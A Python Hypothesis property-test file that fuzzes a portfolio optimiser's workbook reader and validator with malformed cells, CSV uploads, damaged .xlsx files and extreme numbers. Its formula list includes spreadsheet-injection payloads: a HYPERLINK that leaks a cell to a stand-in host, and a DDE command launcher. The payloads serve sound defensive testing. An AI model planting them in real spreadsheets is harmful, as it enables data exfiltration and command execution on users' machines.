"""Property tests: whatever a planner's cells hold, the tool answers without a traceback.

Every outcome of reading, validating and planning a workbook must be one of three:
a plan (with its report, JSON and summary written), a validation report (every
problem located and on one line), or an infeasibility explanation. Hypothesis puts
cells of every type into every column of a small valid portfolio: text, numbers,
dates, booleans, spreadsheet errors (#REF!), formulas, emoji, very long strings,
NaN and infinities, negative zero, and the odd header.

Examples are kept moderate (the whole file runs in well under a minute); set
``HYPOTHESIS_PROFILE=thorough`` for a longer search. On CI (``CI=true``) the search
is derandomised so that a run is reproducible.
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import math
import os
import string
import zipfile

import pandas as pd
import pytest
from conftest_reading import VALID, grid, with_cell, xlsx_bytes
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from optimiser import InvalidInput, Plan, Status, optimise, read_workbook, validate
from optimiser.read import read_tables
from optimiser.report import report_workbook, result_json, summary_text
from optimiser.schema import canonical
from optimiser.solvers import SolveError
from optimiser.validate import LARGEST_NUMBER
from optimiser.values import parse_bool, parse_integer, parse_list, parse_number, parse_share

settings.register_profile(
    "default",
    deadline=None,
    derandomize=os.environ.get("CI") == "true",
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
settings.register_profile("thorough", parent=settings.get_profile("default"), max_examples=1000)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "default"))
THOROUGH = os.environ.get("HYPOTHESIS_PROFILE") == "thorough"


def examples(n: int) -> int:
    return 1000 if THOROUGH else n


# --------------------------------------------------------------------------- cell values

SPREADSHEET_ERRORS = ["#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "=SUM(A1:A3)",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
]
AS_TYPED = [
    "40%", "$ 1,200,000", "1 200 000 €", "(500)", "1.5m", "1,5", "1.200.000,50", "2 bn", "-0", "+0",
    "yes", "no", "x", "Y", "oui", "TRUE", "", " ", "\u00a0", "NaN", "nan", "inf", "-inf", "1e309", "1e-320",
    "0", "1", "5", "6", "0.5", "100%", "150%", "Z1", "Z2", "M1", "M2", "Q1", "Q2", "P1", "INF", "VEH",
    "CORE", "EARM", "personnel", "equipment", "high", "extreme", "min_budget_share", "region", "priority",
    "Sahel", "mediation", "budget_scale", "priority_weights", "1:16,2:8", "strict", "Z1, Z2", "M1;M2",
]
UNICODE = [
    "🚁", "👩🏽‍✈️ team", "مهمة حفظ السلام", "Миротворческая миссия", "Côte d’Ivoire", "Ærø", "Ω≈ç√",
    "\u202eevil", "\u200b", "a\nb", "tab\there", "\x00", "\x07bell", "\ud7ff", "\ufeffbom", "𝔘𝔫𝔦",
]


def long_text() -> st.SearchStrategy[str]:
    return st.builds(lambda ch, n: ch * n, st.sampled_from(["a", "é", "🚁", "=", "1", " "]),
                     st.integers(min_value=300, max_value=40_000))


def cell_values(dates: bool = True) -> st.SearchStrategy[object]:
    """Any value a spreadsheet cell (or a reader) can hand over."""
    choices: list[st.SearchStrategy[object]] = [
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from([0.0, -0.0, math.nan, math.inf, -math.inf, 1e308, 5e-324, 0.1 + 0.2]),
        st.text(max_size=30),
        st.sampled_from(SPREADSHEET_ERRORS + FORMULAS + AS_TYPED + UNICODE),
        st.sampled_from(AS_TYPED),  # twice: plausible values reach the solver more often
        long_text(),
    ]
    if dates:
        choices += [
            st.dates(),
            st.datetimes(),
            st.times(),
            st.timedeltas(min_value=dt.timedelta(days=-1000), max_value=dt.timedelta(days=1000)),
        ]
    return st.one_of(*choices)


# --------------------------------------------------------------------------- the portfolio

BASE = {title: grid(text) for title, text in VALID.items()}


@st.composite
def corrupted_grids(draw: st.DrawFn, values: st.SearchStrategy[object]) -> dict[str, list[list[object]]]:
    """The valid portfolio with a few cells (headers included) replaced, rows added or removed."""
    grids: dict[str, list[list[object]]] = {t: [list(r) for r in rows] for t, rows in BASE.items()}
    titles = sorted(grids)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        title = draw(st.sampled_from(titles))
        rows = grids[title]
        action = draw(st.sampled_from(["cell", "cell", "cell", "cell", "row", "drop"]))
        if action == "row":
            rows.append([draw(values) for _ in range(len(rows[0]))])
        elif action == "drop" and len(rows) > 1:
            rows.pop(draw(st.integers(min_value=1, max_value=len(rows) - 1)))
        else:
            r = draw(st.integers(min_value=0, max_value=len(rows)))  # row 0: the header
            c = draw(st.integers(min_value=0, max_value=len(rows[0])))  # one past the end: a new column
            while len(rows) <= r:
                rows.append([None] * len(rows[0]))
            while len(rows[r]) <= c:
                rows[r].append(None)
            rows[r][c] = draw(values)
    return grids


def as_frames(grids: dict[str, list[list[object]]]) -> dict[str, pd.DataFrame]:
    """Each sheet as a DataFrame of objects, as :func:`read_tables` takes them."""
    frames = {}
    for title, rows in grids.items():
        width = max(len(r) for r in rows)
        padded = [list(r) + [None] * (width - len(r)) for r in rows]
        frames[title] = pd.DataFrame(padded[1:], columns=padded[0], dtype=object)
    return frames


# --------------------------------------------------------------------------- the promise


def assert_one_line(problem: object) -> None:
    text = str(problem)
    assert "\n" not in text and "\r" not in text, text
    assert len(text) < 2_000, text[:300]
    assert "Traceback" not in text


def plan_report_or_explanation(raw_or_source: object, name: str | None = None) -> str:
    """Read (when given a source), validate, plan and report; the kind of outcome.

    Anything other than the three promised outcomes fails the test (with its traceback).
    """
    outcome = _outcome(raw_or_source, name)
    if currently_in_test_context():
        event(outcome)  # shown by --hypothesis-show-statistics
    return outcome


def _outcome(raw_or_source: object, name: str | None) -> str:
    try:
        raw = raw_or_source if not isinstance(raw_or_source, bytes | dict) else read_workbook(
            raw_or_source, name=name)  # type: ignore[arg-type]
        portfolio = validate(raw)  # type: ignore[arg-type]
    except InvalidInput as invalid:
        assert invalid.errors, "InvalidInput without an error"
        for problem in invalid.problems:
            assert_one_line(problem)
        return "validation report"
    for warning in portfolio.warnings:
        assert_one_line(warning)
    # relaxed and with time to spare: the property is about the input, not the search
    levers = portfolio.levers.changed(integer=False, time_limit_s=max(portfolio.levers.time_limit_s, 30.0))
    plan = optimise(portfolio, levers)
    assert isinstance(plan, Plan) and plan.status in set(Status)
    report_workbook(plan).save(io.BytesIO())
    result_json(plan)
    summary_text(plan)
    if not plan.has_plan:
        assert plan.diagnosis, f"an infeasible plan without an explanation: {plan.message}"
        for sentence in plan.diagnosis:
            assert_one_line(sentence)
        return "infeasibility explanation"
    assert plan.value is not None and math.isfinite(plan.value)
    assert math.isfinite(plan.total_cost)
    return "plan"


# --------------------------------------------------------------------------- properties


@settings(max_examples=examples(60))
@given(corrupted_grids(cell_values()))
def test_any_cell_values_in_any_column_give_a_plan_a_report_or_an_explanation(grids):
    plan_report_or_explanation(read_tables(as_frames(grids)))


@settings(max_examples=examples(40))
@given(corrupted_grids(st.one_of(st.text(max_size=40), st.sampled_from(AS_TYPED + FORMULAS + UNICODE))),
       st.sampled_from([",", ";", "\t"]), st.booleans())
def test_any_text_in_uploaded_csv_files_gives_a_plan_a_report_or_an_explanation(grids, delimiter, bom):
    import csv

    files = {}
    for title, rows in grids.items():
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(
            [["" if v is None else str(v) for v in row] for row in rows]
        )
        encoding = "utf-8-sig" if bom else "utf-8"
        files[f"{title.lower()}.csv"] = out.getvalue().encode(encoding, "surrogatepass")
    plan_report_or_explanation(files, name="upload")


XLSX_SAFE = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**53), max_value=2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), max_size=30),
    st.sampled_from(SPREADSHEET_ERRORS + FORMULAS + AS_TYPED + [u for u in UNICODE if u.isprintable()]),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1)),
    st.times(),
)


@pytest.mark.slow
@settings(max_examples=examples(15))
@given(corrupted_grids(XLSX_SAFE))
def test_any_cells_in_a_real_xlsx_give_a_plan_a_report_or_an_explanation(grids):
    """Through the real reader: openpyxl writes the cells (formulas without a saved
    value, error cells, dates), the child process parses them with calamine."""
    plan_report_or_explanation(xlsx_bytes(grids), name="fuzzed.xlsx")


# (sheet, column index) of every money, quantity and availability cell of the portfolio
NUMBER_CELLS = [
    ("Missions", 9), ("Missions", 5), ("Zones", 4), ("Zones", 5), ("Resources", 4), ("Resources", 5),
    ("Requirements", 2), ("Funding", 2), ("Availability", 2),
]
# Refused by validation (above LARGEST_NUMBER), or accepted however far beyond any real
# portfolio: products of such numbers can pass what the solver holds, which must then
# say so in one line (test_coefficients_the_solver_cannot_hold_give_one_line_not_a_crash).
EXTREME_NUMBERS = st.one_of(
    st.sampled_from([0, 1e-300, 5e-324, 1e-9, 0.5, 1e9, 1e15, 1e15 + 1, 1e300, 1.79e308, 10**30]),
    st.floats(min_value=LARGEST_NUMBER, max_value=1e308, allow_nan=False, exclude_min=True),
    st.floats(min_value=0, max_value=LARGEST_NUMBER, allow_nan=False),
    st.integers(min_value=0, max_value=10**9),
    st.integers(min_value=10**15 + 1, max_value=10**40),
)


@settings(max_examples=examples(40))
@given(st.lists(st.tuples(st.sampled_from(NUMBER_CELLS), st.integers(min_value=1, max_value=3),
                          EXTREME_NUMBERS), min_size=1, max_size=4))
def test_extreme_but_valid_numbers_give_a_plan_or_an_explanation(changes):
    """Tiny and huge amounts, costs, quantities and caps pass validation; the solver must
    still give a plan or say why not (a failure is allowed one line, never a traceback)."""
    grids = {t: [list(r) for r in rows] for t, rows in BASE.items()}
    for (title, column), row, number in changes:
        rows = grids[title]
        if row < len(rows):
            rows[row][column] = number
    try:
        plan_report_or_explanation(read_tables(as_frames(grids)))
    except SolveError as failure:  # the CLI's exit 3: one line
        assert_one_line(failure)
        event("solver failure")


@settings(max_examples=examples(60))
@given(st.lists(st.lists(cell_values(), max_size=14), max_size=12), st.sampled_from(sorted(VALID)))
def test_a_sheet_of_pure_noise_is_reported_never_raised(rows, title):
    frames = as_frames({t: [list(r) for r in g] for t, g in BASE.items()})
    width = max([len(r) for r in rows] + [1])
    noise = [list(r) + [None] * (width - len(r)) for r in rows] or [[None]]
    frames[title] = pd.DataFrame(noise[1:], columns=noise[0], dtype=object)
    plan_report_or_explanation(read_tables(frames))


@settings(max_examples=examples(40))
@given(st.binary(min_size=1, max_size=2_000),
       st.sampled_from(["f.xlsx", "f.xlsm", "f.xls", "f.xlsb", "f.ods", "f.bin"]))
def test_random_bytes_are_refused_with_one_line(data, name):
    with pytest.raises(InvalidInput) as caught:
        read_workbook(data, name=name)
    (problem,) = caught.value.problems
    assert_one_line(problem)


@functools.cache
def _real_workbook_bytes() -> bytes:
    """The same bytes for every example: the file's length shapes the draws, and a file
    saved again carries a new timestamp (hypothesis needs draws that replay)."""
    return bytes(xlsx_bytes(BASE))


@settings(max_examples=examples(25))
@given(st.data())
def test_damaged_copies_of_a_real_workbook_are_refused_or_read(data):
    """Bytes flipped or cut anywhere in a real .xlsx: refused with one line, or read."""
    original = bytearray(_real_workbook_bytes())
    cut = data.draw(st.integers(min_value=1, max_value=len(original)))
    damaged = original[:cut]
    for _ in range(data.draw(st.integers(min_value=0, max_value=5))):
        at = data.draw(st.integers(min_value=0, max_value=len(damaged) - 1))
        damaged[at] = data.draw(st.integers(min_value=0, max_value=255))
    plan_report_or_explanation(bytes(damaged), name="damaged.xlsx")


# --------------------------------------------------------------------------- the parsers


@settings(max_examples=examples(300))
@given(cell_values())
def test_cell_parsers_only_ever_raise_a_value_error_with_a_reason(value):
    for parse in (parse_number, parse_integer, parse_share, parse_bool, parse_list):
        try:
            parsed = parse(value)
        except ValueError as reason:
            assert str(reason) and "\n" not in str(reason)
            continue
        if parse in (parse_number, parse_share):
            assert math.isfinite(parsed) and not (parsed == 0 and math.copysign(1, parsed) < 0)


@settings(max_examples=examples(300))
@given(st.one_of(st.text(), st.text(alphabet=string.whitespace + "-_ aA1")))
def test_the_child_reader_names_sheets_exactly_as_the_schema_does(name):
    from optimiser import read_sandbox

    assert read_sandbox.canonical(name) == canonical(name)


def test_a_portfolio_of_every_kind_of_value_still_gets_one_line_per_problem():
    """One sweep, no randomness: each awkward value in each cell of the Missions sheet."""
    awkward = [*SPREADSHEET_ERRORS[:3], *FORMULAS[:3], math.nan, math.inf, -0.0, "🚁" * 40_000,
               dt.date(2027, 1, 31), dt.timedelta(hours=5), True]
    for value in awkward:
        grids = {t: [list(r) for r in rows] for t, rows in BASE.items()}
        for c in range(len(grids["Missions"][0])):
            grids["Missions"][1][c] = value
        assert plan_report_or_explanation(read_tables(as_frames(grids))) in (
            "plan", "validation report", "infeasibility explanation")


def test_zip_members_that_lie_about_their_size_are_refused():
    """A part whose declared size is smaller than what it inflates to: refused, never inflated."""
    good = xlsx_bytes(BASE)
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        part = next(n for n in archive.namelist() if n.startswith("xl/worksheets/"))
    damaged = bytearray(good)
    name = part.encode()
    for signature, offset, field in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = damaged.find(name)
        while at >= 0:
            start = at - offset
            if damaged[start:start + 4] == signature:
                damaged[start + field:start + field + 4] = (10).to_bytes(4, "little")
            at = damaged.find(name, at + 1)
    with pytest.raises(InvalidInput, match="damaged"):
        read_workbook(bytes(damaged), name="liar.xlsx")


def test_an_infeasible_plan_names_the_commitments_that_clash():
    """Without its CORE budget, must-fund M1 (50% of 50 infantry at 1,000 x 1.5 hazard,
    plus half its 1,000 running cost: 38,000 a period) cannot be paid by the Sahel fund
    alone (20,000 x 0.9 x 1.1 = 19,800 in Q1)."""
    tables = dict(VALID)
    tables["Funding"] = """
        source_id,name,amount,period,eligible_types,eligible_zones,eligible_regions
        EARM,Sahel fund,20000,Q1,,Z1,Sahel
        EARM,Sahel fund,30000,Q2,,Z1,Sahel
    """
    portfolio = validate(read_tables(tables))
    plan = optimise(portfolio, portfolio.levers.changed(integer=False))
    assert plan.status is Status.INFEASIBLE
    assert any("M1" in sentence for sentence in plan.diagnosis), plan.diagnosis


def test_coefficients_the_solver_cannot_hold_give_one_line_not_a_crash():
    """A hazard multiplier of 1e15 (valid: at most LARGEST_NUMBER) times 1,000 a person
    times 50 people is past 1e19, where HiGHS's infinity (1e20) begins."""
    portfolio = validate(read_tables(with_cell("Zones", "F2", "1e15")))
    try:
        plan = optimise(portfolio, portfolio.levers.changed(integer=False))
    except SolveError as failure:
        assert_one_line(failure)
        return
    assert plan.status in set(Status)
